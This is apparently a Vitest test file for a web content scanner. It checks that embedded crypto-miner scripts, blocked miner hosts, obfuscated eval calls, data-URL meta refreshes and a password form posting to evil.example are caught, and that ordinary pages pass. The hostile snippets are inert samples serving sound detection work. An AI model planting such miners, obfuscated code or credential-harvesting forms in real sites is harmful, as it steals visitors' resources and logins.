import { describe, expect, it } from 'vitest';
import { scanText } from './scan';

describe('content scanning', () => {
  it.each([
    ['crypto-miner', '<script>var miner = new CoinHive.Anonymous("key"); miner.start();</script>'],
    ['crypto-miner', '<script src="/js/coinhive.min.js"></script>'],
    ['blocked-script-host', '<script async src="https://coinhive.com/lib/x.js"></script>'],
    ['blocked-script-host', '<script src=//cdn.crypto-loot.org/crypta.js></script>'],
    ['blocked-script-host', 's.src = "https://www.jsecoin.com/server/x.js";'],
    ['obfuscated-eval', 'eval(atob("YWxlcnQoMSk="))'],
    ['obfuscated-eval', 'eval( unescape("%61%6c%65%72%74"))'],
    ['obfuscated-eval', 'new Function(atob(payload))()'],
    ['obfuscated-eval', 'document.write(unescape("%3Cscript"))'],
    ['meta-refresh-data-url', '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD4=">'],
    ['credential-form-other-origin', '<form action="https://evil.example/collect" method="post"><input name=u><input type="password" name=p></form>'],
  ])('catches %s', (rule, text) => {
    expect(scanText('index.html', text)?.rule).toBe(rule);
  });

  it.each([
    ['a landing page', '<!doctype html><h1>Hello</h1><script src="https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js"></script>'],
    ['a login form to its own site', '<form action="/login" method="post"><input type="password" name="p"></form>'],
    ['an external newsletter form without a password', '<form action="https://newsletter.example/subscribe"><input type="email"></form>'],
    ['a meta refresh to a page', '<meta http-equiv="refresh" content="5; url=/next">'],
    ['a bundle that uses atob and eval separately', 'const s = atob(x); const r = JSON.parse(s); function evaluate(){}'],
    ['the word cryptocurrency in text', '<p>We accept cryptocurrency and CoinHive was shut down in 2019.</p>'],
  ])('lets %s pass', (_label, text) => {
    expect(scanText('index.html', text)).toBeNull();
  });
});
